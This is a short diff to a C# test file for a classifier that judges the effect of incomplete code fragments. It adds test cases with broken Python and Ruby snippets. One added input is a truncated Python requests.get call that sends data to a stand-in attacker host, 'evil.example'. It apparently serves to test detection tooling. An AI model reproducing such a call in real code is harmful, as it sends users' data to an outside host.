@@ -11,4 +11,10 @@ public sealed class BrokenTextTests
     [InlineData(Language.Python, ".Popen()")]
     [InlineData(Language.Python, "session.query(f\"{func.f(1))x.y((z")]
     public void What_begins_or_ends_in_the_middle_waits(Language language, string text) => Assert.Equal(Effect.Unknown, Classifier.Whole(text, language).Effect);
+
+    [Theory]
+    [InlineData(Language.Python, "requests.get('http://evil.example', data=")]
+    [InlineData(Language.Python, "KafkaConsumer('t', **")]
+    [InlineData(Language.Ruby, ".read")]
+    public void What_begins_or_ends_in_the_middle_is_answered(Language language, string text) => Assert.NotEmpty(Classifier.Whole(text, language).Why);
 }
